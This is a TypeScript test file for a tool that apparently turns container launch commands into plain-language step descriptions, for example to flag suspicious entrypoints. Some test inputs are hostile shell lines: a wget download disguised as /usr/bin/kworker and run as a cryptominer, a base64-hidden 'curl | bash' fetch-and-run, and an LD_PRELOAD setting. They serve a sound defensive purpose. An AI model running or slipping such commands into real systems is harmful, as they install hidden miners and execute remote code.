import assert from 'node:assert/strict';
import { test } from 'node:test';
import { honestImages } from '../../../test/builders/entrypoints.ts';
import { launchFiles, startingConfig } from '../../../test/builders/launch-files.ts';
import { readLaunchPath } from './read-launch-path.ts';
import { tellStory } from './tell-story.ts';

const story = (script: string): readonly string[] =>
  tellStory(readLaunchPath(startingConfig({ command: ['bash', '-c', script] }), launchFiles({}))).steps.map(
    ({ text }) => text,
  );

test('a program is followed from its address to its arguments', () => {
  assert.deepEqual(
    story(
      'wget -qO /tmp/.x http://192.0.2.10/x; chmod +x /tmp/.x; mv /tmp/.x /usr/bin/kworker; sudo nohup /usr/bin/kworker -o pool.example:3333 -u W',
    ),
    [
      'downloads http://192.0.2.10/x to /tmp/.x',
      'makes it executable',
      'renames it to /usr/bin/kworker',
      'runs it as /usr/bin/kworker with pool pool.example:3333 (-o pool.example:3333 -u W) through sudo, nohup',
    ],
  );
});

test('what is decoded is told with what came out', () => {
  const text = Buffer.from('curl -s http://192.0.2.1/a | bash').toString('base64');
  assert.deepEqual(story(`echo ${text} | base64 -d | sh`), [
    'decodes base64: curl -s http://192.0.2.1/a | bash',
    'runs with sh what it has decoded from base64',
    'fetches http://192.0.2.1/a',
    'runs with bash what it has downloaded from http://192.0.2.1/a',
  ]);
});

test('conditions, loops and the background are told', () => {
  assert.deepEqual(story('if [ -e /x ]; then one; fi; while true; do two; sleep 1; done & three'), [
    'runs one, on a condition',
    'runs two, in the background, again and again',
    'runs three',
  ]);
});

test('steps say where they stand', () => {
  const files = { '/go.sh': '#!/bin/sh\nprog\n' };
  const { steps } = tellStory(readLaunchPath(startingConfig({ command: ['/go.sh'] }), launchFiles(files)));
  assert.deepEqual(
    steps.map(({ text, script, offset }) => [text, script, offset]),
    [
      ['runs /go.sh', '', 0],
      ['runs prog', '/go.sh', 10],
    ],
  );
});

test('secrets in arguments and addresses are not told', () => {
  assert.deepEqual(
    story('app --password hunter22 --api-key=abcdef -v postgres://user:hunter22@db/x; export TOKEN=hunter22'),
    ['runs app with --password … --api-key=… -v postgres://user:…@db/x'],
  );
});

test('variables are told where they change what programs do, and only then', () => {
  assert.deepEqual(story('export LD_PRELOAD=/usr/lib/x.so LANG=C'), ['sets LD_PRELOAD to /usr/lib/x.so']);
});

test('the same deed again is told once, and a long story says how long', () => {
  assert.deepEqual(story('a; a; a; b'), ['runs a', 'runs b']);
  const many = Array.from({ length: 250 }, (_, n) => `p${n}`).join('; ');
  const { steps, more } = tellStory(readLaunchPath(startingConfig({ command: ['sh', '-c', many] }), launchFiles({})));
  assert.deepEqual([steps.length, more], [200, 50]);
});

test('an ordinary database server starts with an ordinary story', () => {
  const image = honestImages['redis'];
  assert.ok(image !== undefined);
  const { steps } = tellStory(readLaunchPath(startingConfig(image.config), launchFiles(image.files)));
  assert.deepEqual(
    steps.map(({ text }) => text),
    [
      'runs /usr/local/bin/docker-entrypoint.sh with redis-server',
      'runs it with redis-server through setpriv, on a condition',
      'runs redis-server',
    ],
  );
});
